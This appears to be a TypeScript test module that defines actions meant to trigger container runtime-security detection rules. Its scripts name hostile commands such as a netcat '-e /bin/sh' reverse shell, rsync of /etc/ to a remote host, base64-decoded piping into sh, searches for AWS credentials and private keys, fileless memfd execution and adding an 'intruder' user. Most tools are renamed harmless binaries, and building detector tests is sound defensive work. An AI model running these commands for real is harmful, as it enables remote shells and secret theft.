import type { Action } from './action.ts';
import { calls, starts } from './signs.ts';

/** A program that images here do not have is brought along under its name. */
const brought = (action: string, name: string, words: string): Action => ({
  action,
  script: `cp /bin/true $T/${name}; $T/${name} ${words}`,
  shows: starts(new RegExp(`/${name} `)),
});

/** Calls of the kernel by number, from a language that every Debian has. */
const perl = (program: string): string => `perl -e '${program}' $T`;

/** Those that are about programs and what they ask the kernel for. */
export const PROGRAM_ACTIONS: readonly Action[] = [
  {
    action: 'syscall.ChangeNamespacePrivilegesViaUnshare',
    script: 'unshare --user true || unshare --mount true',
    shows: calls(/^unshare$/),
  },
  {
    action: 'syscall.ChangeThreadNamespace',
    script: perl('open(N, "<", "/proc/self/ns/uts"); syscall(308, fileno(N), 0)'),
    shows: calls(/^setns$/),
  },
  {
    action: 'syscall.DbProgramSpawnedProcess',
    script: 'cp /bin/bash $T/mysqld; $T/mysqld -c "ls /; true"',
    shows: starts(/\/ls /, /\/mysqld$/),
  },
  brought('syscall.DebugfsLaunchedInPrivilegedContainer', 'debugfs', '/dev/sda1'),
  {
    action: 'syscall.DecodingPayloadInContainer',
    script: 'echo dHJ1ZQ== | base64 -d | sh',
    shows: starts(/\/base64 -d/),
  },
  brought('syscall.DetectCryptoMinersUsingTheStratumProtocol', 'worker', '-o stratum+tcp://pool.example.com:3333'),
  {
    action: 'syscall.DropAndExecuteNewBinaryInContainer',
    script: 'cat /bin/ls > $T/dropped; chmod +x $T/dropped; $T/dropped /',
    shows: starts(/\/dropped /),
  },
  {
    action: 'syscall.ExecutionFromDevShm',
    script: 'echo "id" > /dev/shm/run.sh; sh /dev/shm/run.sh',
    shows: starts(/\/dev\/shm\/run\.sh/),
  },
  {
    action: 'syscall.FilelessExecutionViaMemfdCreate',
    script: perl(
      'my $n = "x"; my $f = syscall(319, $n, 0); open(my $to, ">&=", $f); open(my $in, "<", "/bin/true"); local $/; my $b = <$in>; syswrite($to, $b); exec("/proc/self/fd/$f")',
    ),
    shows: ({ type, process: program }) => type === 'exec' && program?.fileless === true,
  },
  {
    action: 'syscall.FindAwsCredentials',
    script: 'find / -xdev -maxdepth 3 -path "*.aws/credentials"; grep -rl aws_access_key_id /root /tmp',
    shows: starts(/\.aws\/credentials|aws_access_key_id/),
  },
  brought('syscall.KubernetesClientToolLaunchedInContainer', 'kubectl', 'get pods'),
  brought('syscall.LaunchIngressRemoteFileCopyToolsInContainer', 'wget', 'http://files.example.com/x'),
  {
    action: 'syscall.LaunchPackageManagementProcessInContainer',
    script: 'apt-get --version; dpkg --version',
    shows: starts(/\/(?:apt-get|dpkg) /),
  },
  brought('syscall.LaunchRemoteFileCopyToolsInContainer', 'rsync', '/etc/ files.example.com:'),
  brought('syscall.LaunchSuspiciousNetworkToolInContainer', 'nmap', '10.91.0.0/24'),
  {
    action: 'syscall.MountLaunchedInPrivilegedContainer',
    script: 'mount -t tmpfs none /mnt',
    shows: starts(/\/mount /),
  },
  brought('syscall.NetcatRemoteCodeExecutionInContainer', 'nc', '-e /bin/sh 10.91.0.1 4444'),
  {
    action: 'syscall.NonSudoSetuid',
    script: perl('syscall(105, 2); syscall(105, 0); exec("/bin/true")'),
    shows: calls(/^setuid$/),
  },
  {
    action: 'syscall.PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034',
    script: 'cp /bin/true $T/pkexec; perl -e \'exec { "$ARGV[0]/pkexec" } ()\' $T || $T/pkexec',
    shows: starts(/\/pkexec /),
  },
  {
    action: 'syscall.PtraceAntiDebugAttempt',
    script: perl('syscall(101, 0, 0, 0, 0)'),
    shows: calls(/^ptrace/),
  },
  {
    action: 'syscall.PtraceAttachedToProcess',
    script: perl('my $c = fork; if (!$c) { sleep 3; exit } syscall(101, 16, $c, 0, 0); kill 9, $c'),
    shows: calls(/^ptrace/),
  },
  {
    action: 'syscall.RemoveBulkDataFromDisk',
    script: 'echo x > $T/bulk; shred -u $T/bulk',
    shows: starts(/\/shred /),
  },
  {
    action: 'syscall.RunShellUntrusted',
    script: 'cp /bin/bash $T/httpd; $T/httpd -c "bash -c \\"ls /; true\\"; true"',
    shows: starts(/\/bash /, /\/httpd$/),
  },
  {
    action: 'syscall.SearchPrivateKeysOrPasswords',
    script: 'find / -xdev -maxdepth 4 -name id_rsa; grep -r "BEGIN RSA PRIVATE" /etc/ssl/private',
    shows: starts(/id_rsa|BEGIN RSA PRIVATE/),
  },
  brought('syscall.SudoPotentialPrivilegeEscalation', 'sudoedit', '-s x'),
  {
    action: 'syscall.SystemUserInteractive',
    script: 'setpriv --reuid=1 --clear-groups bash -c "id; true"',
    shows: ({ type, process: program }) => type === 'exec' && program?.uid === 1,
  },
  {
    action: 'syscall.UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess',
    script: perl('syscall(323, 0)'),
    shows: calls(/^userfaultfd$/),
  },
  {
    action: 'syscall.UserMgmtBinaries',
    script: 'useradd intruder; usermod --help',
    shows: starts(/\/useradd /),
  },
];
